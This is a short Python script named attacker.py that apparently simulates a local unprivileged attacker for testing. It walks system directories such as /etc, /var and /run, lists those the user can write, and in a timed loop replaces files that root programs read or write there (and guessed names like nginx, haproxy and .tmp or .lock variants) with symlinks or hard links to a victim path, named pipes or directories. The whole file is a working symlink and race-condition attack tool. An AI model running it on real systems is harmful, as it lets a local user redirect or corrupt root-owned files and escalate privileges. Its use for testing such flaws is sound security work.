"""What somebody tries who has got the rights of a user: in every directory where the user may write, something else
stands in the place of files that root reads and writes there.

usage: attacker.py KIND SECONDS

KIND is link, pipe, directory, away (a directory gives way to a link to another one), all, one after the other until the
time is over, or nothing. Prints the directories in which the user may write."""

from __future__ import annotations

import itertools
import os
import sys
import time
from contextlib import suppress

TOPS = ("/etc", "/home", "/opt", "/run", "/srv", "/usr/local", "/var")
EVERYBODY = ("/run/lock", "/var/tmp", "/var/lock", "/run/user", "/var/spool/cron", "/run/screen")
VICTIM, VICTIMS = "/etc/systemd/system/victim.service", "/etc/victim.d"
GUESSED = ("admin.sock.lock", "lock", "server-state", "keepalived.prom", "master.sock", "haproxy", "nginx")
KINDS = ("link", "hard link", "pipe", "directory", "away")


def own() -> list[str]:
    """The directories in which the user may write, without those of everybody."""
    found = []
    for top in TOPS:
        for folder, names, _files in os.walk(top):
            names[:] = [name for name in names if os.path.join(folder, name) not in EVERYBODY]
            if os.access(folder, os.W_OK):
                found.append(folder)
    return found


def targets(folder: str) -> set[str]:
    """The names of what is there, and of what a program would make there."""
    names = {*os.listdir(folder), *GUESSED}
    staged = {
        f"{dot}{name}{end}" for name in names for dot in ("", ".") for end in (".new", ".staged", ".lock", ".tmp")
    }
    return names | staged | {f".{name}" for name in names}


def plant(path: str, kind: str) -> None:
    with suppress(OSError):
        if os.path.isdir(path) and not os.path.islink(path):
            if kind == "away":
                os.rename(path, f"{path}.away")
                os.symlink(VICTIMS, path)
            return
        os.unlink(path)
    with suppress(OSError):
        if kind == "link":
            os.symlink(VICTIM, path)
        elif kind == "hard link":
            os.link(VICTIM, path)
        elif kind == "pipe":
            os.mkfifo(path)
        elif kind == "directory":
            os.mkdir(path)


def main(kind: str, seconds: str) -> None:
    end = time.monotonic() + float(seconds)
    folders = {folder: targets(folder) for folder in own()}
    print("\n".join(folders), flush=True)
    if kind == "nothing" or not folders:
        return
    for number in itertools.count():
        for folder, names in folders.items():
            for name in names:
                plant(os.path.join(folder, name), KINDS[number % len(KINDS)] if kind == "all" else kind)
        if time.monotonic() > end:
            return
        for folder in folders:
            with suppress(OSError):
                for name in os.listdir(folder):
                    with suppress(OSError):
                        os.rmdir(os.path.join(folder, name))


if __name__ == "__main__":
    main(*sys.argv[1:])
